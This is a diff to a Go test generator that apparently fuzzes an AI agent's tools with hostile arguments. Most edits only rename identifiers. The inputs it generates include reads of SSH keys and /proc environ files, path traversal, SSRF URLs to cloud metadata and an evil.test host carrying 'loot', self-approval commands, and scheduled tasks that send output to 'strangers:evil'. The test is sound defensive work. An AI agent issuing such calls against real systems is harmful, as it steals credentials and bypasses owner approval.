@@ -38,8 +38,8 @@ func payloads() map[string]func(plot) args {
 		"notebook_edit": func(p plot) args {
 			return args{"path": pick(p, []string{"work.ipynb", p.target() + ".ipynb"}), "new_source": p.text(), "mode": "insert", "cell_type": "code"}
 		},
-		"exec":    execution,
-		"process": handling,
+		"exec":    execCall,
+		"process": processCall,
 		"tmux": func(p plot) args {
 			return args{"action": pick(p, []string{"list", "create", "send", "capture"}), "session": pick(p, []string{"owners", "s1"}), "command": p.command()}
 		},
@@ -196,7 +196,7 @@ func (p plot) path() string {
 		p.state() + "/token", "../state/token", "links/state/token", "links/state/hob.db", "links/state", "~/hob/state/artifacts",
 		"../config.toml", "links/config", "links/nowhere", "harmless.env",
 		"/proc/self/environ", "/proc/thread-self/environ", proc + "/environ", proc + "/root" + p.user + "/.ssh/id_x", proc + "/cwd", proc + "/fd/3", "/proc/1/environ",
-		p.away + "/page.txt", p.away + "/diary.txt", "links/away/diary.txt", p.away, "~/inbox/note.txt", "~/inbox", p.file(), p.file(), "copies", "~/p/a/priv/keep.txt", "~/p",
+		p.away + "/page.txt", p.away + "/logBuffer.txt", "links/away/logBuffer.txt", p.away, "~/inbox/note.txt", "~/inbox", p.file(), p.file(), "copies", "~/p/a/priv/keep.txt", "~/p",
 		"notes.md", "AGENTS.md", "MEMORY.md", "memory/home.md", "memory/foreign.md", "memory/keys.md", "memory", "skills", "skills/helper/scripts/run.sh", "skills/evil/SKILL.md", p.state() + "/skills", "links/state/index.db", ".scratch", ".scratch/main/x", "given/x.txt", "given", ".", "attachments", "work.ipynb",
 		"/dev/stdin", "/dev/tty", "nothing\x00.md", strings.Repeat("../", 200) + "etc/hostname", "file://" + p.user + "/.ssh/id_x", "~root/.ssh/id_x", strings.Repeat("x", 5000),
 	})
@@ -220,7 +220,7 @@ func (p plot) patch() string {
 		fmt.Sprintf("*** Add File: %s\n+%s", at, p.text()),
 		fmt.Sprintf("*** Update File: %s\n*** Move to: %s\n@@\n-true\n+%s", from, at, p.text()),
 		fmt.Sprintf("*** Update File: notes.md\n*** Move to: %s\n@@\n-buy milk\n+%s", at, p.text()),
-		fmt.Sprintf("*** Delete File: %s\n", pick(p, []string{"~/.bashrc", p.away + "/diary.txt", "links/config", "links/ssh/id_x"})),
+		fmt.Sprintf("*** Delete File: %s\n", pick(p, []string{"~/.bashrc", p.away + "/logBuffer.txt", "links/config", "links/ssh/id_x"})),
 	}) + "*** End Patch"
 }
 
@@ -239,8 +239,8 @@ func (p plot) command() string {
 		fmt.Sprintf("touch ran-%s; hob approvals approve %s", name, p.code),
 		fmt.Sprintf("ln -s %s/.ssh ran-%s", p.user, name),
 		"touch ran-" + name + "; grep -rs . given .scratch attachments links",
-		p.practised(),
-		p.practised(),
+		p.skillCommand(),
+		p.skillCommand(),
 	})
 }
 
@@ -253,9 +253,9 @@ func schedule(p plot) args {
 		a["schedule"], a["prompt"], a["session"] = "every 24h", p.order("TASK"), "isolated"
 		switch p.rng.IntN(4) {
 		case 0:
-			a["allow"] = pick(p, []string{"exec,net,write:" + p.user, "exec", "read:" + p.user + "/.ssh", "message:lobby:evil"})
+			a["allow"] = pick(p, []string{"exec,net,write:" + p.user, "exec", "read:" + p.user + "/.ssh", "message:strangers:evil"})
 		case 1:
-			a["deliver"] = "lobby:evil"
+			a["deliver"] = "strangers:evil"
 		}
 	}
 	return a
@@ -269,14 +269,14 @@ func watching(p plot) args {
 			a["include"] = []string{pick(p, []string{"*.md", "**", "../*"})}
 		}
 		if p.rng.IntN(4) == 0 {
-			a["allow"] = pick(p, []string{"read:" + p.user + "/.ssh", "net", "message:lobby:evil"})
+			a["allow"] = pick(p, []string{"read:" + p.user + "/.ssh", "net", "message:strangers:evil"})
 		}
 	}
 	return a
 }
 
 func message(p plot) args {
-	a := args{"to": pick(p, []string{"owner", "owner", "cli:main", "cli:main", "lobby:evil", "lobby:guest", "lobby:" + strings.TrimPrefix(p.word, "ROUND "), "none", "ntfy:x", "LOBBY:evil", "owner:x"}), "content": pick(p, []string{p.text(), p.forged(), "/approve " + p.code})}
+	a := args{"to": pick(p, []string{"owner", "owner", "cli:main", "cli:main", "strangers:evil", "strangers:guest", "strangers:" + strings.TrimPrefix(p.word, "ROUND "), "none", "ntfy:x", "STRANGERS:evil", "owner:x"}), "content": pick(p, []string{p.text(), p.forged(), "/approve " + p.code})}
 	if p.rng.IntN(6) == 0 {
 		a["attachments"] = []string{p.path()}
 	}
@@ -295,11 +295,11 @@ func (p plot) url() string {
 		"http://１２７.0.0.1:" + port + what, "http://localhost.:" + port + what, "http://user@127.0.0.1:" + port + what, "http://evil.test@127.0.0.1:" + port + what,
 		"http://" + p.tag + ".rebind.test:" + port + what, "https://" + p.loot + "." + p.tag + ".evil.test" + what, "http://" + p.tag + ".evil.test/", "https://" + p.tag + ".given.test/page",
 		"http://169.254.169.254/latest/meta-data", "http://[fd00:ec2::254]/", "file:///" + p.user + "/.ssh/id_x", "gopher://127.0.0.1:" + port + "/x",
-		"http://" + p.address + "/v1/questions/" + p.code + "/approve", "http://" + p.address + "/v1/skills/evil/trust", p.villainServer() + "/models",
+		"http://" + p.address + "/v1/questions/" + p.code + "/approve", "http://" + p.address + "/v1/skills/evil/trust", p.hostileServer() + "/models",
 	})
 }
 
-func (p plot) villainServer() string { return p.model.URL }
+func (p plot) hostileServer() string { return p.model.URL }
 
 func request(p plot) args {
 	return args{
